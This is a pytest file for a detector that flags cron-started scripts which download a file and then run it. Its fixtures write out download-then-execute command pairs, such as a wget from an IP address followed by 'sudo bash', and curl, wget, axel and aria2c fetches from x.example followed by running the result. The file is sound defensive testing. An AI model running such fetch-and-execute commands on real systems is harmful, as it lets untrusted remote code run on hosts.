import pytest
from hypothesis import given
from hypothesis import strategies as st

from hemostat.detect.check import claims_of
from hemostat.detect.checks.script_fetched_then_run import fetched_then_run
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, Observable
from hemostat.model.host import Scope
from hemostat.model.path import HostPath
from hemostat.model.record_set import RecordSet
from hemostat.model.records import ScriptLine


def claims(*commands: str, paths: tuple[str, ...] = (), scope: Scope = Scope()) -> list[Claim]:
    records = RecordSet()
    for number, command in enumerate(commands, 1):
        path = HostPath(paths[number - 1] if paths else "/opt/s")
        records.add(
            [
                ScriptLine(
                    source=Source(path=path, line=number),
                    path=path,
                    started_by=HostPath("/etc/cron.d/x"),
                    mechanism="cron",
                    technique="T1053.003",
                    command=command,
                    scope=scope,
                )
            ]
        )
    return list(claims_of(fetched_then_run, records.of, fetched_then_run.examples[0].context))


@pytest.mark.requirement("B5.4", "A4.13")
def test_the_worked_case_is_named_with_script_job_and_address() -> None:
    (claim,) = claims("wget -q http://198.51.100.7/mservice.sh", "sudo bash mservice.sh 10014")
    assert [(each.kind, each.value) for each in claim.subjects] == [
        ("file", "/opt/s"),
        ("cron_job", "/etc/cron.d/x"),
    ]
    assert claim.attack == ("T1053.003",)
    assert Observable("ipv4-addr", "198.51.100.7") in claim.observables
    assert claim.values["where"] == "/opt/s:2"
    assert claim.values["file"] == "mservice.sh"
    assert claim.values["download"] == "wget -q http://198.51.100.7/mservice.sh"
    assert len(claim.because) == 2


@pytest.mark.parametrize(
    ("fetch", "run"),
    [
        ("curl -O http://x.example/a.sh", "sh a.sh"),
        ("curl -fsSLO http://x.example/a.sh?v=1", ". ./a.sh"),
        ("curl -so /opt/b http://x.example/a", "/opt/b &"),
        ("curl --output=/opt/b http://x.example/a", "setsid /opt/b"),
        ('wget "http://x.example/a" -qO "$DIR/run.sh"', 'bash "$DIR/run.sh"'),
        ("if ! curl -s http://x.example/a >/opt/b; then exit 1; fi", "if true; then /opt/b; fi"),
        ("axel -o k.py http://x.example/k", "/usr/bin/python3 -u k.py"),
        ("aria2c --out=k http://x.example/k", "./k"),
    ],
)
def test_each_way_to_save_and_to_run_is_seen(fetch: str, run: str) -> None:
    assert len(claims(fetch, "chmod +x x", run)) == 1


@pytest.mark.parametrize(
    ("fetch", "run"),
    [
        ("curl http://x.example/a.sh", "sh a.sh"),
        ("curl -o /opt/b http://x.example/a", "cat /opt/b"),
        ("echo http://x.example/a.sh", "sh a.sh"),
        ("wget -qO- http://x.example/a.sh", "sh -"),
        ("curl -o /opt/b http://x.example/a", "sh -c date"),
    ],
)
def test_what_is_not_saved_or_not_run_is_quiet(fetch: str, run: str) -> None:
    assert claims(fetch, run) == []


def test_lines_of_two_files_are_not_joined() -> None:
    two = ("curl -O http://x.example/a.sh", "sh a.sh")
    assert claims(*two, paths=("/opt/a", "/opt/b")) == []
    assert claims(*two, paths=("/opt/a", "/opt/a"))


def test_the_scope_is_that_of_the_lines() -> None:
    scope = Scope("container", "abc")
    (claim,) = claims("curl -O http://x.example/a.sh", "sh a.sh", scope=scope)
    assert claim.scope == scope


@given(
    st.lists(st.text(st.sampled_from("curl -Oo>$/{}&;|\n'\"ash.w:=?x"), max_size=60), max_size=4)
)
def test_any_lines_are_taken(commands: list[str]) -> None:
    assert len(claims(*commands)) <= 60 * 4
